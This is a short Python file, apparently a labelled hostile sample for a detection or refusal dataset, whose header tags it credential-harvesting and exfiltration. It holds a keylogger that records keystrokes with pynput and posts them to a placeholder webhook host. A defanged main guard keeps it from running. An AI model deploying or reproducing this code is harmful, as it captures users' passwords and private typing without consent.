# Hostile: writes down what a person types and sends it.
# Families: credential-harvesting, exfiltration, network. As a package: refused.
import requests
from pynput import keyboard

typed = []


def on_press(key):
    typed.append(str(key))
    if len(typed) > 100:
        requests.post('https://webhook.site.example.invalid/keys', data={'keys': ''.join(typed)})
        typed.clear()


if __name__ == '__caisson__':
    with keyboard.Listener(on_press=on_press) as listener:
        listener.join()
